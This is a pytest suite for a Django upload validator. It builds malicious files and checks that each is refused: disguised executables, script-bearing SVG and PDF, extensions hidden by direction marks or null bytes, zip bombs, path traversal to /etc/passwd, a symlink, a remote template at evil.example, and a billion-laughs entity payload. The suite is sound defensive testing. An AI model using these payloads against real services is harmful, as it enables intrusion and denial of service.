"""Files made to harm: each is refused with a sentence, leaves nothing behind, and costs little memory and time."""

import contextlib
import io
import random
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from core.files.formats import FORMATS, inspect
from core.files.models import StoredFile
from core.files.store import Unwanted
from tests.core.files.conftest import Keep
from tests.core.files.makers import (
    CONTENT_TYPES,
    DOCX,
    XLSX,
    docx,
    huge_png,
    pdf,
    picture,
    written,
    xlsx,
    zipped,
)

pytestmark = pytest.mark.django_db
MB = 1024 * 1024
EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + bytes(range(256)) * 8
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.fixture(autouse=True)
def nothing_left(place: Path) -> Iterator[None]:
    yield
    assert not StoredFile.objects.exists()
    assert not place.exists()


def refused(kept: Keep, content: bytes, name: str) -> str:
    with pytest.raises(Unwanted) as why:
        kept(content, name)
    return str(why.value)


def book(**parts: bytes | str) -> bytes:
    """A workbook whose parts are given, `__` standing for `/`."""
    kinds = CONTENT_TYPES.format(part="xl/workbook.xml", kind=XLSX)
    named = {f"{name.replace('__', '/')}.xml": content for name, content in parts.items()}
    return zipped({"[Content_Types].xml": kinds, "xl/workbook.xml": "<workbook/>", **named})


# --- not what the name says ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["工资.pdf", "名册.xlsx", "名册.docx", "名册.pptx", "照片.jpg", "照片.png", "照片.webp", "材料.zip"]
)
def test_a_renamed_program(kept: Keep, name: str) -> None:
    assert "只是改了扩展名" in refused(kept, EXE, name)


@pytest.mark.parametrize("name", ["名单.csv", "说明.txt"])
def test_a_program_renamed_to_text(kept: Keep, name: str) -> None:
    assert "内容不是文字" in refused(kept, EXE, name)


@pytest.mark.parametrize(
    "name", ["病毒.exe", "图.svg", "页.html", "页.xhtml", "脚本.js", "快捷.lnk", "双重.pdf.exe", ".htaccess"]
)
def test_what_is_not_on_the_list(kept: Keep, name: str) -> None:
    assert "可以上传：" in refused(kept, EXE, name)


def test_an_extension_hidden_behind_a_direction_mark(kept: Keep) -> None:
    assert "不收 .exe" in refused(kept, pdf(), "工资表\u202efdp.exe").replace("这里", "")


def test_an_extension_hidden_behind_a_null(kept: Keep) -> None:
    assert "不收 .exe" in refused(kept, EXE, "工资表.exe\x00.exe").replace("这里", "")


@pytest.mark.parametrize(
    "content", [SVG, b"\xef\xbb\xbf  " + SVG, b"<!DOCTYPE html><script>1</script>", b"<?xml version='1.0'?>" + SVG]
)
def test_a_page_with_script_named_as_text(kept: Keep, content: bytes) -> None:
    assert "内容是网页或图形代码" in refused(kept, content, "名单.csv")


def test_a_drawing_with_script_named_as_a_picture(kept: Keep) -> None:
    assert "只是改了扩展名" in refused(kept, SVG, "头像.png")


def test_random_bytes_under_every_name(kept: Keep) -> None:
    dice = random.Random(7)
    for extension in ("pdf", "xlsx", "docx", "jpg", "png", "webp", "zip", "csv", "txt"):
        refused(kept, dice.randbytes(5000), f"随机.{extension}")


def damaged(content: bytes, dice: random.Random) -> bytes:
    """The content with some bytes changed, and now and then a piece cut out or put in twice."""
    changed = bytearray(content)
    for _time in range(dice.randint(1, 9)):
        changed[dice.randrange(len(changed))] = dice.randrange(256)
    place, length = dice.randrange(len(changed)), dice.randrange(200)
    if dice.random() < 0.2:
        del changed[place : place + length]
    elif dice.random() < 0.2:
        changed[place:place] = changed[place : place + length]
    return bytes(changed)


@pytest.mark.parametrize(
    ("extension", "content"),
    [("pdf", pdf(2)), ("xlsx", xlsx(20)), ("docx", docx()), ("jpg", picture("JPEG")), ("png", picture("PNG")),
     ("webp", picture("WEBP")), ("zip", zipped({"a.txt": b"abc" * 99, "b.pdf": pdf()})),
     ("csv", "姓名\n李明\n".encode())],
)  # fmt: skip
def test_damaged_files_are_taken_or_refused_but_never_break_anything(extension: str, content: bytes) -> None:
    dice = random.Random(extension)
    for _time in range(80):
        with contextlib.suppress(Unwanted):
            inspect(io.BytesIO(damaged(content, dice)), FORMATS[extension])


# --- two files in one ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("host", "name"),
    [(pdf(), "计划.pdf"), (picture("PNG"), "图.png"), (picture("JPEG"), "图.jpg"), (b"abc\n", "a.txt")],
)
def test_an_archive_behind_another_file(kept: Keep, host: bytes, name: str) -> None:
    assert "藏有另一个文件" in refused(kept, host + zipped({"run.exe": EXE}), name)


def test_a_workbook_that_is_also_a_pdf(kept: Keep) -> None:
    hidden = zipped({"%PDF-1.7": "x", "[Content_Types].xml": "x"}, zipfile.ZIP_STORED)
    assert "藏有另一个文件" in refused(kept, hidden, "名册.xlsx")


def test_a_workbook_behind_a_program(kept: Keep) -> None:
    assert "只是改了扩展名" in refused(kept, EXE + xlsx(), "名册.xlsx")


# --- archives --------------------------------------------------------------------------------------------------------


def measured(kept: Keep, content: bytes, name: str) -> tuple[str, float, float]:
    """What was said, seconds, and megabytes at the peak beyond the upload itself."""
    tracemalloc.start()
    begun = time.thread_time()
    said = refused(kept, content, name)
    spent = time.thread_time() - begun
    peak = tracemalloc.get_traced_memory()[1] / MB
    tracemalloc.stop()
    return said, spent, peak


def test_a_zip_bomb_is_not_unfolded(kept: Keep) -> None:
    bomb = zipped({f"{number}.txt": b"\0" * 30 * MB for number in range(3)})
    assert len(bomb) < MB
    said, spent, peak = measured(kept, bomb, "材料.zip")
    assert "疑似压缩炸弹" in said
    assert spent < 2
    assert peak < 8


def test_a_bomb_inside_a_workbook_is_not_unfolded(kept: Keep) -> None:
    said, spent, peak = measured(kept, book(xl__sharedStrings=b"<t>" + b" " * 60 * MB), "名册.xlsx")
    assert "疑似压缩炸弹" in said or "32,767" in said
    assert spent < 2
    assert peak < 8


def test_a_bomb_of_many_medium_parts_stops_at_the_total(kept: Keep, monkeypatch: pytest.MonkeyPatch) -> None:
    from core.files import containers

    monkeypatch.setattr(containers, "LIMITS", containers.Limits(unpacked=3 * MB))
    parts = {f"{number}.txt": random.Random(number).randbytes(MB) for number in range(4)}
    assert "疑似压缩炸弹" in refused(kept, zipped(parts), "材料.zip")


def test_a_bomb_of_overlapping_parts(kept: Keep) -> None:
    content = bytearray(zipped({"a.txt": b"a" * 4000, "b.txt": b"b" * 4000}))
    second = content.rindex(b"PK\x01\x02")
    content[second + 42 : second + 46] = struct.pack("<I", 0)
    assert "疑似压缩炸弹" in refused(kept, bytes(content), "材料.zip")


def test_a_part_that_lies_about_its_size(kept: Keep) -> None:
    content = bytearray(zipped({"a.txt": random.Random(1).randbytes(9000)}))
    entry = content.rindex(b"PK\x01\x02")
    content[entry + 24 : entry + 28] = struct.pack("<I", 10)
    assert "文件已损坏" in refused(kept, bytes(content), "材料.zip")


def test_a_part_that_does_not_unpack(kept: Keep) -> None:
    content = bytearray(zipped({"a.txt": b"".join(b"%d," % number for number in range(5000))}))
    content[60:90] = b"\xff" * 30
    assert "文件已损坏" in refused(kept, bytes(content), "材料.zip")


def test_more_parts_than_anybody_needs(kept: Keep) -> None:
    assert "超过 5000 个" in refused(kept, zipped({f"{number}": b"" for number in range(5001)}), "材料.zip")


@pytest.mark.parametrize(
    "path", ["../../etc/cron.d/x", "/etc/passwd", "C:\\Windows\\x.txt", "a/../../x", "..\\..\\x.txt", "\\\\server\\x"]
)
def test_paths_that_lead_out(kept: Keep, path: str) -> None:
    assert "不安全的文件路径" in refused(kept, zipped({path: b"x"}), "材料.zip")


@pytest.mark.parametrize("path", ["../../x.xml", "/x.xml"])
def test_paths_that_lead_out_of_a_document(kept: Keep, path: str) -> None:
    parts = {"[Content_Types].xml": CONTENT_TYPES.format(part="word/document.xml", kind=DOCX), path: "x"}
    assert "不安全的文件路径" in refused(kept, zipped(parts), "请示.docx")


def test_a_link_to_elsewhere(kept: Keep) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        link = zipfile.ZipInfo("名册.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert "指向别处的链接" in refused(kept, made.getvalue(), "材料.zip")


def test_a_program_inside_an_archive(kept: Keep) -> None:
    assert "压缩包里有程序文件（工具/安装.EXE）" in refused(kept, zipped({"工具/安装.EXE": EXE}), "材料.zip")


def test_an_archive_with_a_password(kept: Keep) -> None:
    content = bytearray(zipped({"a.txt": b"abc"}))
    for start, offset in ((content.index(b"PK\x03\x04"), 6), (content.rindex(b"PK\x01\x02"), 8)):
        content[start + offset] |= 1
    assert "打开密码" in refused(kept, bytes(content), "材料.zip")


# --- workbooks and documents -----------------------------------------------------------------------------------------


def test_ten_megabytes_in_one_cell(kept: Keep) -> None:
    letters = random.Random(3).randbytes(MB // 16).hex().encode() * 80
    assert len(letters) == 10 * MB
    said, spent, peak = measured(
        kept, book(xl__sharedStrings=b"<sst><si><t>" + letters + b"</t></si></sst>"), "名册.xlsx"
    )
    assert said == "表格里有一格的内容超过 Excel 允许的 32,767 个字，请删减后再上传。"
    assert spent < 2
    assert peak < 8


@pytest.mark.parametrize(
    "part", ["xl/vbaProject.bin", "xl/activeX/activeX1.bin", "word/VBAPROJECT.BIN", "xl/embeddings/run.exe"]
)
def test_macros_and_controls(kept: Keep, part: str) -> None:
    parts = {"[Content_Types].xml": CONTENT_TYPES.format(part="xl/workbook.xml", kind=XLSX), part: b"x"}
    assert "宏、控件或程序" in refused(kept, zipped(parts), "名册.xlsx")


def test_a_macro_workbook_renamed(kept: Keep) -> None:
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    parts = {"[Content_Types].xml": CONTENT_TYPES.format(part="xl/workbook.xml", kind=kind), "xl/workbook.xml": "<a/>"}
    assert "宏、控件或程序" in refused(kept, zipped(parts), "名册.xlsx")


def test_a_document_that_loads_its_template_from_elsewhere(kept: Keep) -> None:
    relation = '<Relationship Type=".../attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    assert "宏、控件或程序" in refused(kept, docx(**{"word/_rels/settings.xml.rels": relation}), "请示.docx")


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:document>&b;</w:document>'


@pytest.mark.parametrize(
    "content", [LAUGHS.encode(), LAUGHS.encode("utf-16"), b"<!--" + b"-" * (256 * 1024 - 9) + b"-->" + LAUGHS.encode()]
)
def test_entities_are_not_unfolded(kept: Keep, content: bytes) -> None:
    kinds = CONTENT_TYPES.format(part="word/document.xml", kind=DOCX)
    parts: dict[str, bytes | str] = {"[Content_Types].xml": kinds, "word/document.xml": content}
    assert "引用外部内容的代码" in refused(kept, zipped(parts), "请示.docx")


def test_an_archive_renamed_to_a_workbook(kept: Keep) -> None:
    assert "内容不是 xlsx 文件" in refused(kept, zipped({"a.txt": b"abc"}), "名册.xlsx")


# --- PDF -------------------------------------------------------------------------------------------------------------


SCRIPT = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")})


def acting(kind: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(210, 297)
    if kind == "script":
        script = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
        )
        names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
        writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    elif kind == "attachment":
        writer.add_attachment("run.exe", EXE)
    elif kind == "launch":
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        writer.root_object[NameObject("/OpenAction")] = action
    elif kind == "page action":
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
        )
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    return written(writer)


@pytest.mark.parametrize("kind", ["script", "attachment", "launch", "page action"])
def test_a_pdf_that_acts(kept: Keep, kind: str) -> None:
    assert "含有脚本或附件" in refused(kept, acting(kind), "计划.pdf")


def test_a_pdf_with_a_password(kept: Keep) -> None:
    writer = PdfWriter()
    writer.add_blank_page(210, 297)
    writer.encrypt("secret", algorithm="RC4-128")
    assert "打开密码" in refused(kept, written(writer), "计划.pdf")


def test_a_pdf_without_pages(kept: Keep) -> None:
    assert "没有页面" in refused(kept, written(PdfWriter()), "计划.pdf")


def test_a_pdf_whose_pages_lead_in_circles(kept: Keep) -> None:
    circle = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    )
    assert "已损坏" in refused(kept, circle, "计划.pdf")


# --- pictures --------------------------------------------------------------------------------------------------------


def test_a_picture_that_unfolds_to_gigabytes(kept: Keep) -> None:
    content = huge_png(30_000, 30_000)
    assert len(content) < MB
    said, spent, peak = measured(kept, content, "海报.png")
    assert "过大" in said
    assert spent < 1
    assert peak < 8


def test_a_picture_cut_off(kept: Keep) -> None:
    assert "打不开" in refused(kept, picture("PNG", (200, 200))[:60], "照片.png")


def test_a_picture_of_another_format(kept: Keep) -> None:
    assert "只是改了扩展名" in refused(kept, picture("GIF"), "照片.png")
